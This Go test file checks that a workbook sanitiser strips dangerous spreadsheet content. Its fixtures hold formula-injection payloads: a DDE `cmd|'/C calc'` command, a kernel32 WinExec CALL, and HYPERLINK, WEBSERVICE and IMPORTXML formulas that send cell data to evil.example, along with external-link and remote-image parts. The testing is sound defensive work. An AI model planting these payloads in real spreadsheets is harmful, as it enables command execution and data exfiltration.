package workbook_test

import (
	"archive/zip"
	"bytes"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// rewritten is a package with some of its parts changed or added.
func rewritten(tb testing.TB, file []byte, change map[string]func(string) string) []byte {
	tb.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	require.NoError(tb, err)
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	put := func(name, content string) {
		part, err := w.Create(name)
		require.NoError(tb, err)
		_, err = io.WriteString(part, content)
		require.NoError(tb, err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		require.NoError(tb, err)
		raw, err := io.ReadAll(r)
		require.NoError(tb, err)
		content := string(raw)
		if c := change[f.Name]; c != nil {
			content = c(content)
			delete(change, f.Name)
		}
		put(f.Name, content)
	}
	for name, c := range change {
		put(name, c(""))
	}
	require.NoError(tb, w.Close())
	return out.Bytes()
}

func TestFormulasThatCouldDoMoreThanReckonGiveWayToTheirValues(t *testing.T) {
	t.Parallel()
	kept := []string{"SUM(A1:A3)", `IF(B4="x(",LEFT(C4,3),"|")`, "_xlfn.XLOOKUP(B4,B4:B8,C4:C8)", "$B$4*2", "Rekap!A1+ROUND (B4,0)", `'Rekap'!A1`, `TEXT(TODAY(),"dd[$-421]")`}
	cut := []string{
		`HYPERLINK("http://evil.example/?x="&B4,"klik")`, `WEBSERVICE("http://evil.example")`, "cmd|'/C calc'!A0", "[1]Sheet1!A1", `'C:\[a.xlsx]S'!A1`,
		`INDIRECT("B"&4)`, "_xlfn.IMAGE(B4)", "RTD(\"x\",,\"y\")", `CALL("kernel32","WinExec","JCJ","calc",0)`, `IMPORTXML("http://evil.example","//a")`,
		"Tabel1[NIK]", `sum(B4)+webservice (B4)`, `"tidak ditutup`,
	}
	f := open(t, own(t, 5))
	at := func(n int) string { c, _ := excelize.CoordinatesToCellName(30, n+20); return c }
	for n, formula := range append(append([]string{}, kept...), cut...) {
		require.NoError(t, f.SetCellValue(warga, at(n), 7))
		require.NoError(t, f.SetCellFormula(warga, at(n), formula))
	}
	require.NoError(t, f.SetDefinedName(&excelize.DefinedName{Name: "jahat", RefersTo: "cmd|'/C calc'!A0"}))
	require.NoError(t, f.SetDefinedName(&excelize.DefinedName{Name: "baik", RefersTo: "Rekap!$A$1:$B$2"}))
	require.NoError(t, f.SetCellHyperLink(warga, "E5", "http://evil.example/klik", "External"))
	back := open(t, withErrors(t, checked(t, saved(t, f))))
	require.Equal(t, []string{"Ringkasan", warga, "Rekap", "_perbaikan"}, back.GetSheetList(), "it is their own workbook")
	for n, formula := range append(append([]string{}, kept...), cut...) {
		now, err := back.GetCellFormula(warga, at(n))
		require.NoError(t, err)
		if n < len(kept) {
			require.Equal(t, formula, now)
		} else {
			require.Empty(t, now, formula)
		}
		require.Equal(t, "7", value(t, back, warga, at(n)), formula)
	}
	names := map[string]bool{}
	for _, n := range back.GetDefinedName() {
		names[n.Name] = true
	}
	require.True(t, names["baik"])
	require.False(t, names["jahat"])
	linked, _, err := back.GetCellHyperLink(warga, "E5")
	require.NoError(t, err)
	require.False(t, linked)
	require.NotContains(t, string(unzipped(t, saved(t, back))), "evil.example/klik")
}

// unzipped is everything in a package.
func unzipped(tb testing.TB, file []byte) (all []byte) {
	tb.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	require.NoError(tb, err)
	for _, f := range z.File {
		r, err := f.Open()
		require.NoError(tb, err)
		raw, err := io.ReadAll(r)
		require.NoError(tb, err)
		all = append(all, raw...)
	}
	return all
}

func TestAWorkbookThatDoesMoreThanShowCellsComesBackAsItsRows(t *testing.T) {
	t.Parallel()
	const rel = `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/`
	into := func(part string) func(string) string {
		return func(s string) string { return strings.Replace(s, "</Relationships>", part+"</Relationships>", 1) }
	}
	for name, change := range map[string]map[string]func(string) string{
		"another workbook": {
			"xl/_rels/workbook.xml.rels":         into(rel + `externalLink" Target="externalLinks/externalLink1.xml"/>`),
			"xl/externalLinks/externalLink1.xml": func(string) string { return "<externalLink/>" },
		},
		"a query": {"xl/_rels/workbook.xml.rels": into(rel + `connections" Target="connections.xml"/>`)},
		"a picture of elsewhere": {"xl/worksheets/_rels/sheet1.xml.rels": func(string) string {
			return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + rel + `image" Target="http://evil.example/x.png" TargetMode="External"/></Relationships>`
		}},
		"a rule that asks elsewhere": {"xl/worksheets/sheet1.xml": func(s string) string {
			return strings.Replace(s, "</sheetData>", `</sheetData><conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://evil.example")</formula></cfRule></conditionalFormatting>`, 1)
		}},
	} {
		raw := rewritten(t, own(t, 5), change)
		back := withErrors(t, checked(t, raw))
		require.Equal(t, []string{"Ringkasan", warga, "_perbaikan"}, open(t, back).GetSheetList(), name)
		for _, part := range []string{"externalLink", "connections", "evil.example"} {
			require.NotContains(t, string(unzipped(t, back)), part, name)
		}
	}
}
